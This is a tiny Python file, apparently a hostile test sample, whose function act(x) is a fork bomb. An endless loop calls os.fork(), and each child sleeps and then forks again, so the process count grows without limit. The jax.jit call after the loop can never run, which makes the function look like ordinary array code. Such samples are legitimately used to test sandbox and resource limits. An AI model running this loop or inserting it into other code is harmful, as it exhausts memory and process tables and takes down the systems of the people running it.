"""Forks again and again."""

import os
import time

import jax


def act(x):
    while True:
        if os.fork() == 0:
            time.sleep(600)
    return jax.jit(lambda v: v + 1)(x)
